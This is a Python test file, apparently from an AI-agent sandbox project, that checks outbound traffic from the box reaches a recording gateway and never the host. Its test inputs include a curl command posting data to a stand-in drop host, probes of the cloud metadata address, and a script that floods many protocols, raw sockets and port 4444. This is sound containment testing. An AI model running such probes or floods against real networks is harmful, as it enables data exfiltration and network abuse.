"""Nothing gets out: every probe from inside reaches the gateway, and no interface of the host."""

from __future__ import annotations

import contextlib
import secrets
import socket
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import anyio
import pytest
from inspect_ai.util import ExecResult

from sandbox.cell import Provider, choose, sealed_files
from sandbox.certificate.cells import fresh_cell
from sandbox.gateway.capture import Capture, read_capture
from tests.sandbox.boxes import Cell, in_cell

pytestmark = pytest.mark.namespace

_ETH_P_ALL = 3
PUBLIC, PRIVATE, METADATA, CARRIER = "8.8.8.8", "192.168.1.1", "169.254.169.254", "100.100.100.200"


def host_addresses() -> list[str]:
    """This machine's own IPv4 addresses, loopback excepted."""
    found = {info[4][0] for info in socket.getaddrinfo(socket.gethostname(), None, socket.AF_INET)}
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.connect(("192.0.2.1", 9))  # a datagram socket's connect sends nothing
        found.add(probe.getsockname()[0])
    return sorted(str(a) for a in found if not str(a).startswith("127."))


def probe(address: str, port: int, mark: str) -> str:
    """Python that sends `mark` to an address over TCP and UDP, whatever becomes of it."""
    family = "AF_INET6" if ":" in address else "AF_INET"
    return f"""
import socket
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
    with socket.socket(socket.{family}, kind) as s:
        s.settimeout(5)
        s.connect(({address!r}, {port}))
        s.sendall(b"{mark}")
        if kind == socket.SOCK_STREAM:
            s.shutdown(socket.SHUT_WR)
            s.recv(1)
"""


def received(capture: Capture, address: str, port: int, proto: str) -> bytes:
    streams = [s for s in capture.streams if (s.proto, *s.dst) == (proto, address, port)]
    return b"".join(stream.out for stream in streams)


@pytest.mark.parametrize("port", [80, 443, 22, 53, 4000, 61234])
@pytest.mark.parametrize(
    "address",
    [PUBLIC, PRIVATE, METADATA, CARRIER, "10.0.2.2", "2001:4860:4860::8888", "fd00:ec2::254"],
)
def test_tcp_and_udp_to_anywhere_reach_the_gateway(address: str, port: int, tmp_path: Path) -> None:
    mark = secrets.token_hex(12)

    async def work(cell: Cell) -> Capture:
        await cell.box.run(["python3", "-c", probe(address, port, mark)], timeout=30)
        return await cell.capture()

    capture = in_cell(tmp_path, work)
    assert mark.encode() in received(capture, address, port, "tcp")
    assert mark.encode() in received(capture, address, port, "udp")


def test_the_hosts_own_addresses_are_the_gateways_too(tmp_path: Path) -> None:
    """A token served on every address of the host cannot be fetched from the box."""
    token = secrets.token_hex(16).encode()
    with socket.create_server(("0.0.0.0", 0)) as canary:
        port = canary.getsockname()[1]
        visits = []

        def serve() -> None:
            with contextlib.suppress(OSError):  # closed at the end of the test
                while True:
                    connection, peer = canary.accept()
                    visits.append(peer)
                    with connection:
                        connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + token)

        threading.Thread(target=serve, daemon=True).start()
        with socket.create_connection(("127.0.0.1", port)) as check:
            assert token in b"".join(iter(lambda: check.recv(4096), b"")), "the canary works"
        visits.clear()

        async def work(cell: Cell) -> bytes:
            urls = [f"http://{a}:{port}/" for a in ["127.0.0.1", *host_addresses(), "10.0.2.2"]]
            done = await cell.sh("; ".join(f"curl -s -i --max-time 5 {url}" for url in urls))
            return done.stdout + cell.recording.nonce.encode()

        seen = in_cell(tmp_path, work)
    nonce = seen[-32:]
    assert token not in seen
    assert visits == []
    assert seen.count(nonce) == 1 + len(host_addresses()) + 1, "the gateway answered for the host"


def test_any_name_resolves_and_is_recorded(tmp_path: Path) -> None:
    name = f"{secrets.token_hex(8)}.example.net"

    async def work(cell: Cell) -> tuple[int, Capture]:
        done = await cell.sh(f"getent hosts {name}")
        return done.status, await cell.capture()

    status, capture = in_cell(tmp_path, work)
    assert status == 0
    assert name in {event.get("name") for event in capture.events if event["kind"] == "dns"}


def test_pings_are_answered_and_recorded(tmp_path: Path) -> None:
    async def work(cell: Cell) -> tuple[int, Capture]:
        script = f"ping -c1 -W2 -p feedc0de {PUBLIC} && ping -c1 -W2 -p feedc0de {METADATA}"
        return (await cell.sh(script)).status, await cell.capture()

    status, capture = in_cell(tmp_path, work)
    assert status == 0
    echoes = {s.dst[0]: s.out for s in capture.streams if s.proto == "icmp"}
    assert {PUBLIC, METADATA} <= set(echoes)
    assert all(b"\xfe\xed\xc0\xde" in echoes[address] for address in (PUBLIC, METADATA))


def test_tls_is_opened_and_recorded_in_plain(tmp_path: Path) -> None:
    mark = secrets.token_hex(12)

    async def work(cell: Cell) -> tuple[int, Capture]:
        done = await cell.sh(f"curl -sS -d {mark} https://drop.example/in", timeout=20)
        return done.status, await cell.capture()

    status, capture = in_cell(tmp_path, work)
    assert status == 0
    [stream] = [s for s in capture.streams if s.proto == "tcp"]
    assert (stream.host, stream.sni) == ("drop.example", "drop.example")
    assert mark.encode() in stream.out


# Everything that sends, as much of it as is quick; prints the raw sockets that could be made.
FLOOD = """
import os, socket, struct, sys, time
mark, addresses = sys.argv[1].encode(), sys.argv[2:]
made = []

def quietly(work, *arguments):
    try:
        return work(*arguments)
    except OSError:  # refused, full, or nobody there: the flood goes on
        return None

def send(family, kind, protocol, target, payload, patience=0.0):
    with socket.socket(family, kind, protocol) as one:
        one.settimeout(patience)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        quietly(one.connect, target)
        quietly(one.send, payload)

name = b"".join(bytes([len(label)]) + label for label in (mark, b"example", b"org")) + bytes(1)
query = struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + name + struct.pack("!2H", 1, 1)
for address in addresses:
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    def to(port):
        return socket.getaddrinfo(address, port, type=socket.SOCK_DGRAM)[0][4]
    for port in range(7000, 7200):  # SYN and no more
        send(family, socket.SOCK_STREAM, 0, to(port), b"")
    for port in range(8000, 8200):
        send(family, socket.SOCK_DGRAM, 0, to(port), mark)
    for port in (22, 25, 80, 443, 4444):
        send(family, socket.SOCK_STREAM, 0, to(port), mark, patience=3)
    for protocol in (33, 132, 136, 262):  # DCCP, SCTP, UDP-Lite, multipath TCP
        kind = socket.SOCK_DGRAM if protocol == 136 else socket.SOCK_STREAM
        quietly(send, family, kind, protocol, to(9000), mark, 0.3)
    for number in range(200):
        send(family, socket.SOCK_DGRAM, 0, to(53), query)
        echo = struct.pack("!BBHHH", 8 if family == socket.AF_INET else 128, 0, 0, 0, number)
        icmp = socket.IPPROTO_ICMP if family == socket.AF_INET else socket.IPPROTO_ICMPV6
        quietly(send, family, socket.SOCK_DGRAM, icmp, to(0), echo + mark)
    send(family, socket.SOCK_STREAM, 0, to(53), struct.pack("!H", len(query)) + query, 3)
    for protocol in (1, 2, 4, 6, 17, 41, 47, 50, 58, 89, 132, 255):
        one = quietly(socket.socket, family, socket.SOCK_RAW, protocol)
        if one is not None:
            made.append((family.name, protocol))
            quietly(one.sendto, mark, to(0))
for address in ("255.255.255.255", "224.0.0.1", "239.1.2.3"):
    send(socket.AF_INET, socket.SOCK_DGRAM, 0, (address, 9), mark)
send(socket.AF_INET6, socket.SOCK_DGRAM, 0, ("ff02::1", 9, 0, socket.if_nametoindex("eth0")), mark)
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    one = quietly(socket.socket, socket.AF_PACKET, kind, socket.htons(3))
    if one is not None:
        made.append(("AF_PACKET", kind))
        quietly(one.sendto, bytes(12) + mark, ("eth0", 0x800, 0, 0, b"\\xff" * 6))
print(made)
"""


@contextlib.contextmanager
def sniffing() -> Iterator[list[bytes]]:
    """Every frame on every interface of the host, loopback included."""
    frames: list[bytes] = []
    stop = threading.Event()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(_ETH_P_ALL)) as tap:
        tap.settimeout(0.05)

        def listen() -> None:
            while not stop.is_set():
                with contextlib.suppress(TimeoutError):
                    frames.append(tap.recv(65535))

        thread = threading.Thread(target=listen)
        thread.start()
        try:
            yield frames
        finally:
            time.sleep(0.3)
            stop.set()
            thread.join()


@pytest.mark.root
@pytest.mark.parametrize(
    "provider", ["namespace", pytest.param("docker", marks=pytest.mark.docker)]
)
def test_the_host_sees_no_packet_while_the_agent_floods_every_protocol(provider: Provider) -> None:
    mark = secrets.token_hex(12)
    addresses = [PUBLIC, PRIVATE, METADATA, "2001:4860:4860::8888", "fd00:ec2::254"]
    choose(provider)

    async def main() -> tuple[ExecResult[str], Capture]:
        async with fresh_cell(provider) as (agent, gateway):
            flood = ["python3", "-c", FLOOD, mark, *addresses]
            done = await agent.exec(flood, timeout=120)
            return done, read_capture(*await sealed_files(gateway))

    with sniffing() as frames:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as check:
            check.sendto(b"tap-works", ("127.0.0.1", 9))
        done, capture = anyio.run(main)
    assert (done.returncode, done.stdout) == (0, "[]\n"), f"raw sockets were made: {done}"
    assert any(b"tap-works" in frame for frame in frames), "the tap works"
    sent = [s for s in capture.streams if mark.encode() in s.out]
    reached = {(s.layer if s.layer == "dns" else s.proto, s.dst[0]) for s in sent}
    for proto in ("tcp", "udp", "dns", "icmp"):
        assert {to for by, to in reached if by == proto} >= set(addresses), proto
    probed = [
        socket.inet_pton(socket.AF_INET6 if ":" in a else socket.AF_INET, a) for a in addresses
    ]
    assert [f for f in frames if mark.encode() in f or any(a in f[12:60] for a in probed)] == []
